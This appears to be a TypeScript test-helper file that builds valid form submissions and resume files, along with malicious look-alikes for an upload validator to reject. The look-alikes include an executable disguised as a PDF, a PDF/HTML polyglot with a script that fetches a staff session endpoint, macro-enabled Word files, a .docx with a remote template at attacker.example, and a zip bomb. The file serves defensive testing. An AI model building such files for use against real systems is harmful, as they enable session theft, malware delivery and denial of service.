// Test helpers: builders for valid submissions and for the files a resume can be. The app they
// are sent to is testApp.ts's.
import { randomUUID } from 'node:crypto';
import { crc32, deflateRawSync } from 'node:zlib';
import { jobs, openListings, opportunities } from '@aarambh/content';

/**
 * The first listing still open today, which the fixtures apply to: listings close on their
 * catalogue day, and no test may start failing on the day one does. Once every listing has
 * closed, the catalogue needs new dates, and this says so.
 */
function firstOpen<T extends { closes: string }>(list: readonly T[], what: string): T {
  const [first] = openListings(list, new Date());
  if (!first) throw new Error(`Every ${what} in packages/content has closed: give the catalogue new dates`);
  return first;
}

/** The programme the application fixtures apply to (every programme has a fee for each duration). */
export const programme = firstOpen(opportunities, 'opportunity');
/** The opening the career fixtures apply to. */
export const opening = firstOpen(jobs, 'opening');

export const validContact = () => ({
  firstName: 'Asha',
  lastName: 'Rao',
  email: 'asha.rao@example.com',
  phone: '+919876543210',
  company: 'Rao Traders',
  subject: 'A website for my shop',
  message: 'We would like a simple website with a contact form and a catalogue.',
  inquiryType: 'general',
});

export const validFeedback = () => ({
  name: 'Ravi',
  email: 'ravi@example.com',
  message: 'The internship page was clear and easy to use.',
  rating: 5,
  isAnonymous: false,
  timestamp: '2026-03-01T10:00:00.000Z',
  source: 'feedback_page',
});

export const validSubscription = (email = 'meera@example.com') => ({
  email,
  subscriptionType: 'platform_updates',
  source: 'coming_soon_page',
  timestamp: '2026-03-01T10:00:00.000Z',
  interests: ['platform_launch', 'new_features', 'opportunities'],
});

export const validApplicationFields = (): Record<string, string> => ({
  firstName: 'Asha',
  lastName: 'Rao',
  email: 'asha.rao@example.com',
  phone: '+919876543210',
  university: 'Delhi University',
  major: 'Computer Science',
  graduationYear: '2026',
  gpa: '3.6',
  coverLetter: '',
  linkedin: 'https://www.linkedin.com/in/asha-rao',
  portfolio: '',
  availability: 'immediately',
  duration: '8-weeks',
  transactionId: 'UPI1234567890',
  paymentDone: 'true',
  consentApplication: 'true',
  consentUpdates: 'false',
  age: 'adult',
  opportunityId: String(programme.id),
});

/**
 * Two new interview times of 30 minutes by phone, one and two days after `from`, as
 * `ConsoleStorage.offerInterview` takes them.
 */
export const interviewSlots = (from: Date) =>
  [1, 2].map((day) => ({
    id: randomUUID(),
    startsAt: new Date(from.getTime() + day * 86_400_000),
    minutes: 30,
    mode: 'phone' as const,
    detail: '+91 98765 43210',
  }));

export const validCareerFields = (): Record<string, string> => ({
  firstName: 'Kiran',
  lastName: 'Shah',
  email: 'kiran.shah@example.com',
  phone: '+919812345678',
  location: 'Pune',
  experience: 'mid',
  availability: '1month',
  salary: '',
  coverLetter: 'I have built and run web services for five years.',
  portfolio: '',
  linkedin: '',
  github: '',
  agreeToTerms: 'true',
  consentApplication: 'true',
  allowContact: 'true',
  jobId: String(opening.id),
});

const WORD_CONTENT_TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';

/**
 * The start of a Windows executable (PE image): the DOS header (`MZ`, `e_lfanew` at 0x3C pointing
 * at 0x80), then the `PE\0\0` signature and a COFF header for x86-64; the rest is padding.
 */
function windowsExecutable(): Buffer {
  const image = Buffer.alloc(1024);
  image.write('MZ', 0, 'latin1');
  image.writeUInt32LE(0x80, 0x3c);
  image.write('PE\0\0', 0x80, 'latin1');
  image.writeUInt16LE(0x8664, 0x84);
  return image;
}

/** Word's File Information Block opens with 0xA5EC; the rest of the stream is padding here. */
const wordStream = () => Buffer.concat([Buffer.from([0xec, 0xa5]), Buffer.alloc(4094)]);

/** The smallest files each accepted type (and each look-alike) can be recognised by. */
export const documents = {
  pdf: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2000, 0x20), Buffer.from('\n%%EOF\n')]),
  /** A PDF whose binary stream happens to hold the letters 'MZ', as compressed data may. */
  pdfMentioningMz: () =>
    Buffer.concat([
      Buffer.from('%PDF-1.7\n1 0 obj\n<< /Length 100 >>\nstream\nMZ'),
      Buffer.alloc(98, 0x41),
      Buffer.from('\nendstream\nendobj\n%%EOF\n'),
    ]),
  /** A Windows executable with `%PDF-` put in front of it, and a PDF's last line after it. */
  exeWithPdfHeader: () =>
    Buffer.concat([Buffer.from('%PDF-1.7\n'), windowsExecutable(), Buffer.from('\n%%EOF\n')]),
  /** A PDF that is also an HTML page with a script (a polyglot). */
  pdfHtmlPolyglot: () =>
    Buffer.from(
      '%PDF-1.7\n%<html><body><script>fetch("/staff/api/session")</script></body></html>\n' +
        '1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
    ),
  /** Bytes that open with `%PDF-` and do not end as a PDF does. */
  pdfHeaderOnly: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2000, 0x20)]),
  doc: () =>
    ole2([
      { name: 'WordDocument', type: 2, data: wordStream() },
      { name: '1Table', type: 2, data: Buffer.alloc(4096) },
    ]),
  /** A Word document with a VBA project (its `Macros` storage). */
  docWithMacros: () =>
    ole2([
      { name: 'WordDocument', type: 2, data: wordStream() },
      { name: '1Table', type: 2, data: Buffer.alloc(4096) },
      { name: 'Macros', type: 1, data: Buffer.alloc(0) },
    ]),
  /** An Excel 97-2003 workbook: the same OLE2 container, with a `Workbook` stream. */
  xls: () => ole2([{ name: 'Workbook', type: 2, data: Buffer.alloc(4096) }]),
  /** An OLE2 file whose bytes contain the text 'WordDocument', in a stream of another name. */
  oleMentioningWordDocument: () =>
    ole2([
      {
        name: 'Contents',
        type: 2,
        data: Buffer.concat([Buffer.from('WordDocument', 'utf16le'), Buffer.alloc(4072)]),
      },
    ]),
  docx: () =>
    zip([
      { name: '[Content_Types].xml', content: WORD_CONTENT_TYPES },
      { name: 'word/document.xml', content: '<w:document/>' },
    ]),
  /** A macro-enabled document (.docm) named .docx: its VBA project is `word/vbaProject.bin`. */
  docm: () =>
    zip([
      {
        name: '[Content_Types].xml',
        content: WORD_CONTENT_TYPES.replace(
          'wordprocessingml.document.main+xml',
          'ms-word.document.macroEnabled.main+xml',
        ).replace('openxmlformats-officedocument.', ''),
      },
      { name: 'word/document.xml', content: '<w:document/>' },
      { name: 'word/vbaProject.bin', content: 'vba' },
    ]),
  /** A macro-enabled content type without the VBA part's usual name. */
  docxDeclaredMacroEnabled: () =>
    zip([
      {
        name: '[Content_Types].xml',
        content: WORD_CONTENT_TYPES.replace('document.main+xml', 'document.macroEnabled.main+xml'),
      },
      { name: 'word/document.xml', content: '<w:document/>' },
    ]),
  zipOfOther: () => zip([{ name: '[Content_Types].xml', content: '' }, 'xl/workbook.xml']),
  /** A document whose settings attach a template from another server (fetched when it is opened). */
  docxRemoteTemplate: () =>
    docxWithSettingsRelationship(
      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>',
    ),
  /** The same, written as XML allows: spaces around `=`, single quotes, a character reference. */
  docxRemoteTemplateSpaced: () =>
    docxWithSettingsRelationship(
      `<Relationship Id="rId1" Type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target="https://attacker.example/t.dotm" TargetMode = '&#69;xternal'/>`,
    ),
  /** A document with an external hyperlink (a LinkedIn profile): an ordinary resume. */
  docxWithHyperlink: () =>
    zip([
      { name: '[Content_Types].xml', content: WORD_CONTENT_TYPES },
      { name: 'word/document.xml', content: '<w:document/>' },
      {
        name: 'word/_rels/document.xml.rels',
        content:
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/asha-rao" TargetMode="External"/></Relationships>',
      },
    ]),
  /** A document part that inflates to 101 MiB (a zip bomb a few hundred kilobytes long). */
  docxBomb: () =>
    zip([
      { name: '[Content_Types].xml', content: WORD_CONTENT_TYPES },
      { name: 'word/document.xml', inflatesTo: 101 * 1024 * 1024 },
    ]),
};

function docxWithSettingsRelationship(relationship: string): Buffer {
  return zip([
    { name: '[Content_Types].xml', content: WORD_CONTENT_TYPES },
    { name: 'word/document.xml', content: '<w:document/>' },
    {
      name: 'word/_rels/settings.xml.rels',
      content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`,
    },
  ]);
}

const FREE = 0xffffffff;
const END_OF_CHAIN = 0xfffffffe;

/**
 * An OLE2 compound file (MS-CFB, version 3: 512-byte sectors) with the given storages and streams
 * under its root, each stream in its own sector chain (streams of 4096 bytes or more, so no mini
 * stream), laid out as sector 0 the FAT, sector 1 the directory, then the streams.
 */
export function ole2(items: { name: string; type: 1 | 2; data: Buffer }[]): Buffer {
  if (items.length > 3) throw new Error('ole2: at most 3 entries (one directory sector)');
  const header = Buffer.alloc(512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
  header.writeUInt16LE(0x3e, 0x18);
  header.writeUInt16LE(3, 0x1a);
  header.writeUInt16LE(0xfffe, 0x1c);
  header.writeUInt16LE(9, 0x1e);
  header.writeUInt16LE(6, 0x20);
  header.writeUInt32LE(1, 0x2c);
  header.writeUInt32LE(1, 0x30);
  header.writeUInt32LE(4096, 0x38);
  header.writeUInt32LE(END_OF_CHAIN, 0x3c);
  header.writeUInt32LE(END_OF_CHAIN, 0x44);
  for (let i = 0; i < 109; i++) header.writeUInt32LE(i === 0 ? 0 : FREE, 0x4c + i * 4);
  const fat = Buffer.alloc(512, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0);
  fat.writeUInt32LE(END_OF_CHAIN, 4);
  const directory = Buffer.alloc(512);
  const entry = (index: number, name: string, type: number, start: number, size: number) => {
    const at = index * 128;
    directory.write(name, at, 'utf16le');
    directory.writeUInt16LE((name.length + 1) * 2, at + 0x40);
    directory[at + 0x42] = type;
    directory.writeUInt32LE(FREE, at + 0x44);
    directory.writeUInt32LE(index < items.length ? index + 1 : FREE, at + 0x48);
    directory.writeUInt32LE(index === 0 ? 1 : FREE, at + 0x4c);
    directory.writeUInt32LE(start, at + 0x74);
    directory.writeUInt32LE(size, at + 0x78);
  };
  entry(0, 'Root Entry', 5, END_OF_CHAIN, 0);
  const data: Buffer[] = [];
  let next = 2;
  items.forEach((item, index) => {
    const sectors = Math.ceil(item.data.length / 512);
    const start = sectors === 0 ? END_OF_CHAIN : next;
    for (let i = 0; i < sectors; i++)
      fat.writeUInt32LE(i === sectors - 1 ? END_OF_CHAIN : next + i + 1, (next + i) * 4);
    entry(index + 1, item.name, item.type, start, item.data.length);
    data.push(item.data, Buffer.alloc(sectors * 512 - item.data.length));
    next += sectors;
  });
  return Buffer.concat([header, fat, directory, ...data]);
}

/**
 * A zip of the given entries (a bare name is an empty entry), stored uncompressed, but for an
 * entry of `inflatesTo` zero bytes, deflated.
 */
export function zip(
  items: (string | { name: string; content: string } | { name: string; inflatesTo: number })[],
): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const item of items) {
    const entry = typeof item === 'string' ? { name: item, content: '' } : item;
    const nameBytes = Buffer.from(entry.name);
    const plain = 'content' in entry ? Buffer.from(entry.content) : Buffer.alloc(entry.inflatesTo);
    const deflated = 'inflatesTo' in entry;
    const data = deflated ? deflateRawSync(plain) : plain;
    const checksum = crc32(plain);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(deflated ? 8 : 0, 8);
    local.writeUInt32LE(checksum, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(plain.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(deflated ? 8 : 0, 10);
    central.writeUInt32LE(checksum, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(plain.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(items.length, 8);
  end.writeUInt16LE(items.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** A multipart form with text fields and, optionally, a file under `resume`. */
export function form(
  fields: Record<string, string>,
  file?: { content: Buffer; name: string; type: string },
): FormData {
  const data = new FormData();
  for (const [name, value] of Object.entries(fields)) data.append(name, value);
  if (file) data.append('resume', new Blob([new Uint8Array(file.content)], { type: file.type }), file.name);
  return data;
}
